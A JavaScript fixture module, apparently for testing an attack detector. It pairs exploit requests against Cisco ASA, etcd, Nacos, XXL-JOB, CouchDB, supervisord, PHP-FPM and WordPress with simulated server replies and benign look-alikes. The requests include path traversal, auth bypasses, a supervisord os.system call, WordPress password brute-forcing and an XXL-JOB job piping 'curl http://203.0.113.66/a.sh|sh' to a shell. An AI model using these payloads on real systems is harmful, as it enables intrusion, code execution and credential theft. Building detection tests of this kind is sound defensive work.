/** Interfaces that answer without a password, and holes of gateways and engines told by one request. */
import { html, json, notFound, page, text } from './answers.mjs';
import { of, post, xml } from './requests.mjs';

const refused = () => [403, { 'Content-Type': 'text/html' }, '<h1>403 Forbidden</h1>'];
const xmlReply = (body) => [200, { 'Content-Type': 'text/xml' }, `<?xml version="1.0"?><methodResponse>${body}</methodResponse>`];

const ca = of('product/cisco-asa-traversal', { port: 8443 });
const asa = [
  ca.hit('lua-source', 'succeeded', 'a Lua file through the translation table', () => text('-- Copyright (C) 2006-2018 by Cisco Systems, Inc.\ndofile("/+CSCOE+/include/common.lua")\n'), [['/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../']]),
  ca.hit('sessions', 'succeeded', 'the list of sessions', () => text("///sessions\n[{'name':'4A2F','size':0,'type':'1','mdate':1566280000}]\n"), [['/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions/']]),
  ca.hit('repaired', 'attempted', '404 of a repaired version', notFound, [['/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua']]),
  ca.miss('portal', 'the log-in page and its translation', () => page('SSL VPN Service'), [['/+CSCOE+/logon.html'], ['/+CSCOT+/translation-table?type=mst&textdomain=AnyConnect&default-language&lang=zh-cn'], ['/+CSCOU+/portal.css']]),
];
const ek = of('cloud/etcd-keys', { port: 2379 });
const etcd = [
  ek.hit('secrets', 'succeeded', 'all keys with a secret among them', () => json({ action: 'get', node: { dir: true, nodes: [{ key: '/registry/secrets/default/db', value: '{"password":"UEBzc3cwcmQ="}' }] } }), [['/v2/keys/?recursive=true']]),
  ek.hit('denied', 'attempted', '401', () => [401, { 'Content-Type': 'application/json' }, '{"message":"Insufficient credentials"}'], [['/v2/keys/?recursive=true']]),
  ek.miss('service-discovery', 'a program asks for its own key', () => json({ action: 'get', node: { key: '/services/web', value: '10.42.1.9:80' } }), [['/v2/keys/services/web'], ['/v2/keys/services/web?wait=true&recursive=true'], ['/version']]),
];
const nu = of('java/nacos-user-agent', { port: 8848 });
const users = '/nacos/v1/auth/users?pageNo=1&pageSize=10';
const nacos = [
  nu.hit('users', 'succeeded', 'the list of accounts', () => json({ totalCount: 1, pageNumber: 1, pageItems: [{ username: 'nacos', password: '$2a$10$EuWPZHzz32dJN7jexM34MO' }] }), [[users, '-A', 'Nacos-Server']]),
  nu.hit('refused', 'attempted', '403 of a repaired version', refused, [[users, '-A', 'Nacos-Server']]),
  nu.miss('client', 'a program registers itself and reads its settings', () => text('ok'), [['/nacos/v1/ns/instance/beat?serviceName=web', '-A', 'Nacos-Java-Client:v1.3.2'], ['/nacos/v1/cs/configs?dataId=app.yaml&group=DEFAULT_GROUP', '-A', 'Nacos-Java-Client:v1.3.2']]),
];
const xj = of('java/xxl-job-executor', { port: 9999 });
const job = (type, source) => JSON.stringify({ jobId: 1, executorHandler: 'demoJobHandler', executorBlockStrategy: 'COVER_EARLY', logId: 1, glueType: type, glueSource: source, broadcastTotal: 0 });
const xxl = [
  xj.hit('accepted', 'succeeded', 'a shell script, accepted', () => json({ code: 200 }), [post('/run', job('GLUE_SHELL', 'curl http://203.0.113.66/a.sh|sh'))]),
  xj.hit('denied', 'attempted', 'the access token is wrong', () => json({ code: 500, msg: 'The access token is wrong.' }), [post('/run', job('GLUE_SHELL', 'id'))]),
  xj.miss('scheduler', 'the scheduler with its token, and a bean job', () => json({ code: 200 }), [post('/run', job('GLUE_SHELL', 'df -h'), 'application/json', '-H', 'XXL-JOB-ACCESS-TOKEN: 4f8a'), post('/run', job('BEAN', ''))]),
];
const cd = of('database/couchdb-admin', { port: 5984 });
const account = (roles) => ['/_users/org.couchdb.user:li', '-X', 'PUT', '-H', 'Content-Type: application/json', '--data-binary', `{"type":"user","name":"li",${roles}"password":"x"}`];
const couch = [
  cd.hit('account', 'succeeded', 'a doubled key, created', () => [201, { 'Content-Type': 'application/json' }, '{"ok":true,"id":"org.couchdb.user:li","rev":"1-0ae"}'], [account('"roles":["_admin"],"roles":[],')]),
  cd.hit('repaired', 'attempted', '403, roles may not be set', () => [403, { 'Content-Type': 'application/json' }, '{"error":"forbidden","reason":"Only _admin may set roles"}'], [account('"roles":["_admin"],"roles":[],')]),
  cd.miss('sign-up', 'an ordinary account', () => [201, { 'Content-Type': 'application/json' }, '{"ok":true}'], [account('"roles":[],'), ['/_config/httpd']]),
];
const sr = of('product/supervisord-rpc', { port: 9001 });
const call = (method, parameter) => xml('/RPC2', `<?xml version="1.0"?><methodCall><methodName>${method}</methodName><params>${parameter ? `<param><string>${parameter}</string></param>` : ''}</params></methodCall>`);
const walk = 'supervisor.supervisord.options.warnings.linecache.os.system';
const supervisord = [
  sr.hit('executed', 'succeeded', 'the return value 0', () => xmlReply('<params><param><value><int>0</int></value></param></params>'), [call(walk, 'id')]),
  sr.hit('repaired', 'attempted', 'fault UNKNOWN_METHOD', () => xmlReply('<fault><value><struct><member><name>faultCode</name><value><int>1</int></value></member></struct></value></fault>'), [call(walk, 'id')]),
  sr.miss('status', 'all processes are asked for', () => xmlReply('<params><param><value><array/></value></param></params>'), [call('supervisor.getAllProcessInfo'), call('supervisor.startProcess', 'web')]),
];
const pf = of('php/php-fpm-path-info');
const fpm = [
  pf.miss('line-feed', 'a search with a line feed, a long query', () => html('ok'), [['/index.php?q=a%0ab'], [`/list.php?ids=${'123,'.repeat(300)}`], ['/index.php/news/1?QQQ=1']]),
];
const wm = of('scanner/wordpress-multicall');
const one = (password) => `<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><string>admin</string></value><value><string>${password}</string></value></data></array></value></member></struct></value>`;
const many = (n) => xml('/xmlrpc.php', `<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>${Array.from({ length: n }, (_, i) => one(`pw${i}`)).join('')}</data></array></value></param></params></methodCall>`);
const wrong = '<value><struct><member><name>faultCode</name><value><int>403</int></value></member></struct></value>';
const wordpress = [
  wm.hit('hundred', 'attempted', 'two requests of many calls, none succeeds', () => xmlReply(`<params>${wrong.repeat(40)}</params>`), [many(40), many(40)]),
  wm.hit('found', 'succeeded', 'one of the calls succeeds', () => xmlReply(`<params>${wrong.repeat(9)}<value><struct><member><name>isAdmin</name><value><boolean>1</boolean></value></member></struct></value></params>`), [many(10)]),
  wm.miss('ping', 'a pingback and an editor program', () => xmlReply('<params/>'), [xml('/xmlrpc.php', '<methodCall><methodName>pingback.ping</methodName></methodCall>'), xml('/xmlrpc.php', `<methodCall><methodName>wp.getUsersBlogs</methodName></methodCall>`)]),
];

export default [...asa, ...etcd, ...nacos, ...xxl, ...couch, ...supervisord, ...fpm, ...wordpress];
